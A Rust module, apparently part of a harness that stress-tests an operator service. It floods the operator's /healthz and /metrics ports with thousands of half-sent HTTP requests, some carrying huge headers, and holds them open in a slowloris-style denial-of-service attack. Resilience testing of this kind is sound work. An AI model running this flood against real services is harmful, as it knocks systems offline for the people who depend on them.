//! An attack on the operator's ports: requests that are begun and never ended, kept open, and begun anew where they are closed.

use std::collections::VecDeque;
use std::time::Duration;

use anyhow::Context;
use futures::FutureExt;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::attack::{Deeds, Field, Prepared};

const HALF_SENT: usize = 7_000;
const LARGE: usize = 400;
const LARGE_BYTES: usize = 390 << 10;
/// For a connection to come about.
const PATIENCE: Duration = Duration::from_secs(1);
/// The other side stops reading before the end.
const UNREAD: Duration = Duration::from_millis(5);
/// Between two new connections, once all are open.
const PACE: Duration = Duration::from_millis(5);

pub(super) fn flood(field: Field) -> Prepared {
    let deeds = Deeds::default();
    let counted = deeds.clone();
    let load = async move {
        let mut open = VecDeque::new();
        for number in 0.. {
            let connected = connect(&field, number).await;
            counted.count(&connected).await;
            open.extend(connected.ok());
            if open.len() >= HALF_SENT + LARGE {
                open.pop_front();
                tokio::time::sleep(PACE).await;
            }
        }
    };
    Prepared { namespace: None, configuration: None, webhook: None, load: load.boxed(), deeds }
}

async fn connect(field: &Field, number: usize) -> anyhow::Result<TcpStream> {
    let path = ["healthz", "metrics"][number % 2];
    let address = field.operator.address(path).context("it serves nothing yet")?;
    let mut stream = timeout(PATIENCE, TcpStream::connect(&address)).await??;
    // What is refused is closed at once, and may be by now.
    if number.is_multiple_of(HALF_SENT / LARGE) {
        let header = [b"GET /healthz HTTP/1.1\r\nX-Large: ", &*vec![b'x'; LARGE_BYTES]].concat();
        let _ = timeout(UNREAD, stream.write_all(&header)).await;
    } else {
        let _ = stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: ").await;
    }
    Ok(stream)
}
